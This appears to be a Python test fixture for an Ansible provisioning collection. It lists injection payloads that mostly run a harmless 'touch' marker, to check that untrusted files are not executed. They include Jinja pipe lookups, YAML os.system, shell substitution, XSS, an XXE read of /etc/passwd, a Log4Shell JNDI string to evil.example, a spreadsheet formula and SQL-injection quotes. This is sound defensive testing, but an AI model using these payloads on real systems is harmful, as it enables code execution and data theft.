# Copyright: (c) 2026, workspace_zoom.provisioning contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What somebody may write into a directory that many people can write to."""

from __future__ import annotations


def payloads(marker: str) -> dict[str, str]:
    """`marker`: the file that is there if one of them was obeyed."""
    touch = f"touch {marker}"
    return {
        "Jinja": f"{{{{ lookup('pipe', '{touch}') }}}}",
        "Jinja statement": f"{{% set x = lookup('pipe', '{touch}') %}}{{# no #}}",
        "Jinja in a key": f"{{{{ lookup('ansible.builtin.pipe', '{touch}') | default(omit) }}}}",
        "YAML": f"!unsafe {{a: [b, *c]}}\n- !!python/object/apply:os.system ['{touch}']",
        "shell": f"`{touch}`; $({touch}) && {touch} | {touch}",
        "markdown": "[x](https://evil.example) ![i](https://evil.example/i.png) | a | b |\n# head ``` @everyone #1 <!-- -->",
        "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt;",
        "ANSI": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b31m",
        "control": "a\x00b\x08\x08c\x7f\rd\x85e\u2028f",
        "bidi": "\u202egnp.exe\u202c \u2066abc\u2069 \u200f",
        "surrogate": "half \ud83d of one",
        "entity": "]]> <!ENTITY x SYSTEM 'file:///etc/passwd'> &x;",
        "workflow command": "::set-output name=x::y\n##[error]z",
        "formula": "=cmd|' /C calc'!A0",
        "percent": "%s %(x)s {0} {x.__class__} ${jndi:ldap://evil.example/a}",
        "quotes": "' OR '1'='1\" ) ] } , \\",
    }


UNSEEN = {*map(chr, range(0x09)), *map(chr, range(0x0B, 0x20)), *map(chr, range(0x7F, 0xA0)), *"\u2028\u202e\u202c\u2066\u2069\u200f"}
